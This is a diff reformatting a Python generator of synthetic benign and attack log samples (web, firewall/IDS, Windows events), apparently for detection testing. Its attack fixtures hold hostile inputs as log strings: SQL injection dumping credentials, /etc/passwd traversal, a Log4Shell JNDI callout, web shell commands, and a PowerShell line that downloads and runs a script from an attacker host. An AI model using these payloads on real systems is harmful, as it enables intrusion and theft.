@@ -27,8 +27,16 @@ BROWSERS = [
     "Mozilla/5.0 (iPhone; CPU iPhone OS 17_2 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
     "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0",
 ]
-PAGES = ["/", "/tintuc/chitiet.php?id={n}", "/vanban/tra-cuu?q=quyet+dinh+{n}", "/lienhe", "/static/css/site.css",
-         "/static/js/app.js", "/images/banner{n}.jpg", "/dichvucong/hoso?ma=HS{n}"]
+PAGES = [
+    "/",
+    "/tintuc/chitiet.php?id={n}",
+    "/vanban/tra-cuu?q=quyet+dinh+{n}",
+    "/lienhe",
+    "/static/css/site.css",
+    "/static/js/app.js",
+    "/images/banner{n}.jpg",
+    "/dichvucong/hoso?ma=HS{n}",
+]
 LOCAL_ZONE = timedelta(hours=7)
 
 
@@ -95,8 +103,10 @@ def _clf(moment: datetime) -> str:
 def web_benign(rng: random.Random, clock: Clock) -> str:
     page = rng.choice(PAGES).format(n=rng.randint(1, 4000))
     status, size = (200, rng.randint(300, 90000)) if rng.random() < 0.93 else (404, 162)
-    return (f'{rng.choice(INTERNAL)} - - [{_clf(clock.tick(2))}] "GET {page} HTTP/1.1" {status} {size} '
-            f'"https://sotttt.example.gov.vn/" "{rng.choice(BROWSERS)}"')
+    return (
+        f'{rng.choice(INTERNAL)} - - [{_clf(clock.tick(2))}] "GET {page} HTTP/1.1" {status} {size} '
+        f'"https://sotttt.example.gov.vn/" "{rng.choice(BROWSERS)}"'
+    )
 
 
 def web_attack(rng: random.Random, clock: Clock) -> Iterator[str]:
@@ -110,11 +120,26 @@ def web_attack(rng: random.Random, clock: Clock) -> Iterator[str]:
         ("GET /phpmyadmin/index.php HTTP/1.1", 404, 162, browser),
         ("GET /wp-login.php HTTP/1.1", 404, 162, browser),
         ("GET /tintuc/chitiet.php?id=15%27%20AND%201%3D1--%20 HTTP/1.1", 200, 5120, sqlmap),
-        ("GET /tintuc/chitiet.php?id=15%20UNION%20ALL%20SELECT%20NULL,CONCAT(username,0x3a,password),NULL%20FROM%20users--%20 HTTP/1.1", 200, 5302, sqlmap),
+        (
+            "GET /tintuc/chitiet.php?id=15%20UNION%20ALL%20SELECT%20NULL,CONCAT(username,0x3a,password),NULL%20FROM%20users--%20 HTTP/1.1",
+            200,
+            5302,
+            sqlmap,
+        ),
         ("GET /tintuc/chitiet.php?id=15%20AND%20SLEEP(5) HTTP/1.1", 200, 5120, sqlmap),
         ("GET /download.php?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd HTTP/1.1", 200, 1832, browser),
-        ("GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1", 200, 1043, browser),
-        ("GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.23%3A1389%2Fa%7D HTTP/1.1", 200, 9000, browser),
+        (
+            "GET /search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E HTTP/1.1",
+            200,
+            1043,
+            browser,
+        ),
+        (
+            "GET /?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.23%3A1389%2Fa%7D HTTP/1.1",
+            200,
+            9000,
+            browser,
+        ),
         ("POST /uploads/2026/03/cmd.php HTTP/1.1", 200, 48, browser),
         ("GET /uploads/2026/03/cmd.php?cmd=whoami HTTP/1.1", 200, 9, browser),
     ]
@@ -123,31 +148,52 @@ def web_attack(rng: random.Random, clock: Clock) -> Iterator[str]:
 
 
 def cef_benign(rng: random.Random, clock: Clock) -> str:
-    return (f"<134>{_bsd(clock.tick(2))} fw-hq01 CEF:0|Fortinet|FortiGate|7.2|0000000013|traffic allowed|1|"
-            f"src={rng.choice(INTERNAL)} spt={rng.randint(30000, 65000)} dst=10.20.0.1 dpt=443 proto=TCP act=accept "
-            f"app=HTTPS in={rng.randint(200, 9000)} out={rng.randint(200, 90000)}")
+    return (
+        f"<134>{_bsd(clock.tick(2))} fw-hq01 CEF:0|Fortinet|FortiGate|7.2|0000000013|traffic allowed|1|"
+        f"src={rng.choice(INTERNAL)} spt={rng.randint(30000, 65000)} dst=10.20.0.1 dpt=443 proto=TCP act=accept "
+        f"app=HTTPS in={rng.randint(200, 9000)} out={rng.randint(200, 90000)}"
+    )
 
 
 def cef_attack(rng: random.Random, clock: Clock) -> Iterator[str]:
     attacker = rng.choice(ATTACKERS)
     for port in (22, 23, 445, 3389, 5985):
-        yield (f"<134>{_bsd(clock.tick(1))} fw-hq01 CEF:0|Fortinet|FortiGate|7.2|0000000013|traffic denied|5|"
-               f"src={attacker} spt={rng.randint(30000, 65000)} dst=10.20.0.10 dpt={port} proto=TCP act=deny")
-    yield (f"<134>{_bsd(clock.tick(1))} ids-hq01 CEF:0|Suricata|Suricata|7.0|2024897|ET EXPLOIT Apache Struts OGNL RCE|9|"
-           f"src={attacker} spt=44123 dst=10.20.1.15 dpt=8080 proto=TCP act=alert")
-    yield (f"<134>{_bsd(clock.tick(1))} waf-hq01 CEF:0|F5|ASM|16.1|200002835|SQL Injection Attempt|8|"
-           f"src={attacker} dst=10.20.1.20 request=/tintuc/chitiet.php?id\\=1 UNION SELECT requestMethod=GET act=blocked")
-    yield (f"<134>{_bsd(clock.tick(30))} ids-hq01 CEF:0|Suricata|Suricata|7.0|2027760|ET MALWARE Cobalt Strike Beacon Observed|10|"
-           f"src=10.20.3.41 spt=50112 dst=198.51.100.99 dpt=443 proto=TCP act=alert")
+        yield (
+            f"<134>{_bsd(clock.tick(1))} fw-hq01 CEF:0|Fortinet|FortiGate|7.2|0000000013|traffic denied|5|"
+            f"src={attacker} spt={rng.randint(30000, 65000)} dst=10.20.0.10 dpt={port} proto=TCP act=deny"
+        )
+    yield (
+        f"<134>{_bsd(clock.tick(1))} ids-hq01 CEF:0|Suricata|Suricata|7.0|2024897|ET EXPLOIT Apache Struts OGNL RCE|9|"
+        f"src={attacker} spt=44123 dst=10.20.1.15 dpt=8080 proto=TCP act=alert"
+    )
+    yield (
+        f"<134>{_bsd(clock.tick(1))} waf-hq01 CEF:0|F5|ASM|16.1|200002835|SQL Injection Attempt|8|"
+        f"src={attacker} dst=10.20.1.20 request=/tintuc/chitiet.php?id\\=1 UNION SELECT requestMethod=GET act=blocked"
+    )
+    yield (
+        f"<134>{_bsd(clock.tick(30))} ids-hq01 CEF:0|Suricata|Suricata|7.0|2027760|ET MALWARE Cobalt Strike Beacon Observed|10|"
+        f"src=10.20.3.41 spt=50112 dst=198.51.100.99 dpt=443 proto=TCP act=alert"
+    )
 
 
-def _winlogbeat(moment: datetime, code: int, channel: str, provider: str, host: str, data: dict) -> str:
-    return json.dumps({
-        "@timestamp": moment.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z",
-        "host": {"name": host},
-        "winlog": {"channel": channel, "event_id": code, "provider_name": provider, "computer_name": host,
-                   "record_id": int(moment.timestamp()), "event_data": data},
-    }, ensure_ascii=False)
+def _winlogbeat(
+    moment: datetime, code: int, channel: str, provider: str, host: str, data: dict
+) -> str:
+    return json.dumps(
+        {
+            "@timestamp": moment.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z",
+            "host": {"name": host},
+            "winlog": {
+                "channel": channel,
+                "event_id": code,
+                "provider_name": provider,
+                "computer_name": host,
+                "record_id": int(moment.timestamp()),
+                "event_data": data,
+            },
+        },
+        ensure_ascii=False,
+    )
 
 
 SECURITY = ("Security", "Microsoft-Windows-Security-Auditing")
@@ -161,20 +207,61 @@ def windows_benign(rng: random.Random, clock: Clock) -> str:
     user = rng.choice(STAFF)
     choice = rng.random()
     if choice < 0.5:
-        return _winlogbeat(clock.tick(), 4624, *SECURITY, host, {
-            "TargetUserName": user, "TargetDomainName": "SOTTTT", "LogonType": "3", "IpAddress": rng.choice(INTERNAL),
-            "LogonProcessName": "Kerberos", "AuthenticationPackageName": "Kerberos"})
+        return _winlogbeat(
+            clock.tick(),
+            4624,
+            *SECURITY,
+            host,
+            {
+                "TargetUserName": user,
+                "TargetDomainName": "SOTTTT",
+                "LogonType": "3",
+                "IpAddress": rng.choice(INTERNAL),
+                "LogonProcessName": "Kerberos",
+                "AuthenticationPackageName": "Kerberos",
+            },
+        )
     if choice < 0.8:
-        image = rng.choice(["C:\\Windows\\System32\\svchost.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
-                            "C:\\Windows\\explorer.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"])
-        return _winlogbeat(clock.tick(), 1, *SYSMON, host, {
-            "Image": image, "CommandLine": f'"{image}"', "ParentImage": "C:\\Windows\\explorer.exe",
-            "User": f"SOTTTT\\{user}", "IntegrityLevel": "Medium", "OriginalFileName": image.rsplit("\\", 1)[1]})
+        image = rng.choice(
+            [
+                "C:\\Windows\\System32\\svchost.exe",
+                "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+                "C:\\Windows\\explorer.exe",
+                "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+            ]
+        )
+        return _winlogbeat(
+            clock.tick(),
+            1,
+            *SYSMON,
+            host,
+            {
+                "Image": image,
+                "CommandLine": f'"{image}"',
+                "ParentImage": "C:\\Windows\\explorer.exe",
+                "User": f"SOTTTT\\{user}",
+                "IntegrityLevel": "Medium",
+                "OriginalFileName": image.rsplit("\\", 1)[1],
+            },
+        )
     if choice < 0.9:
-        return _winlogbeat(clock.tick(), 4625, *SECURITY, host, {
-            "TargetUserName": user, "LogonType": "2", "IpAddress": "-", "Status": "0xc000006d"})
-    return _winlogbeat(clock.tick(), 4104, *POWERSHELL, host, {
-        "ScriptBlockText": "Get-ChildItem C:\\Reports -Filter *.xlsx | Select-Object Name", "ScriptBlockId": str(rng.randint(1, 10**6))})
+        return _winlogbeat(
+            clock.tick(),
+            4625,
+            *SECURITY,
+            host,
+            {"TargetUserName": user, "LogonType": "2", "IpAddress": "-", "Status": "0xc000006d"},
+        )
+    return _winlogbeat(
+        clock.tick(),
+        4104,
+        *POWERSHELL,
+        host,
+        {
+            "ScriptBlockText": "Get-ChildItem C:\\Reports -Filter *.xlsx | Select-Object Name",
+            "ScriptBlockId": str(rng.randint(1, 10**6)),
+        },
+    )
 
 
 def windows_attack(rng: random.Random, clock: Clock) -> Iterator[str]:
@@ -182,24 +269,85 @@ def windows_attack(rng: random.Random, clock: Clock) -> Iterator[str]:
     attacker = rng.choice(ATTACKERS)
     host = WINDOWS_HOSTS[0]
     for user in STAFF:
-        yield _winlogbeat(clock.tick(1), 4625, *SECURITY, host, {
-            "TargetUserName": user, "LogonType": "10", "IpAddress": attacker, "Status": "0xc000006a"})
-    yield _winlogbeat(clock.tick(1), 4624, *SECURITY, host, {
-        "TargetUserName": "thanhnv", "LogonType": "10", "IpAddress": attacker, "LogonProcessName": "User32"})
-    yield _winlogbeat(clock.tick(5), 1, *SYSMON, host, {
-        "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-        "CommandLine": "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
-        "ParentImage": "C:\\Windows\\System32\\cmd.exe", "User": "SOTTTT\\thanhnv", "OriginalFileName": "PowerShell.EXE"})
-    yield _winlogbeat(clock.tick(1), 4104, *POWERSHELL, host, {
-        "ScriptBlockText": f"IEX (New-Object Net.WebClient).DownloadString('http://{attacker}/a.ps1')", "ScriptBlockId": "77"})
-    yield _winlogbeat(clock.tick(30), 4720, *SECURITY, "SRV-AD01.sotttt.local", {
-        "TargetUserName": "support01", "SubjectUserName": "thanhnv"})
-    yield _winlogbeat(clock.tick(5), 4732, *SECURITY, "SRV-AD01.sotttt.local", {
-        "TargetUserName": "Administrators", "MemberSid": "S-1-5-21-1-2-3-1109", "SubjectUserName": "thanhnv"})
-    yield _winlogbeat(clock.tick(60), 1102, "Security", "Microsoft-Windows-Eventlog", host, {"SubjectUserName": "thanhnv"})
+        yield _winlogbeat(
+            clock.tick(1),
+            4625,
+            *SECURITY,
+            host,
+            {
+                "TargetUserName": user,
+                "LogonType": "10",
+                "IpAddress": attacker,
+                "Status": "0xc000006a",
+            },
+        )
+    yield _winlogbeat(
+        clock.tick(1),
+        4624,
+        *SECURITY,
+        host,
+        {
+            "TargetUserName": "thanhnv",
+            "LogonType": "10",
+            "IpAddress": attacker,
+            "LogonProcessName": "User32",
+        },
+    )
+    yield _winlogbeat(
+        clock.tick(5),
+        1,
+        *SYSMON,
+        host,
+        {
+            "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            "CommandLine": "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
+            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
+            "User": "SOTTTT\\thanhnv",
+            "OriginalFileName": "PowerShell.EXE",
+        },
+    )
+    yield _winlogbeat(
+        clock.tick(1),
+        4104,
+        *POWERSHELL,
+        host,
+        {
+            "ScriptBlockText": f"IEX (New-Object Net.WebClient).DownloadString('http://{attacker}/a.ps1')",
+            "ScriptBlockId": "77",
+        },
+    )
+    yield _winlogbeat(
+        clock.tick(30),
+        4720,
+        *SECURITY,
+        "SRV-AD01.sotttt.local",
+        {"TargetUserName": "support01", "SubjectUserName": "thanhnv"},
+    )
+    yield _winlogbeat(
+        clock.tick(5),
+        4732,
+        *SECURITY,
+        "SRV-AD01.sotttt.local",
+        {
+            "TargetUserName": "Administrators",
+            "MemberSid": "S-1-5-21-1-2-3-1109",
+            "SubjectUserName": "thanhnv",
+        },
+    )
+    yield _winlogbeat(
+        clock.tick(60),
+        1102,
+        "Security",
+        "Microsoft-Windows-Eventlog",
+        host,
+        {"SubjectUserName": "thanhnv"},
+    )
 
 
-KINDS: dict[str, tuple[Callable[[random.Random, Clock], str], Callable[[random.Random, Clock], Iterator[str]]]] = {
+KINDS: dict[
+    str,
+    tuple[Callable[[random.Random, Clock], str], Callable[[random.Random, Clock], Iterator[str]]],
+] = {
     "linux": (linux_benign, linux_attack),
     "web": (web_benign, web_attack),
     "cef": (cef_benign, cef_attack),
@@ -237,7 +385,9 @@ def write_samples(folder: Path) -> None:
 
 
 def main() -> None:
-    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    parser = argparse.ArgumentParser(
+        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
+    )
     commands = parser.add_subparsers(dest="command", required=True)
     samples = commands.add_parser("samples")
     samples.add_argument("folder", type=Path)
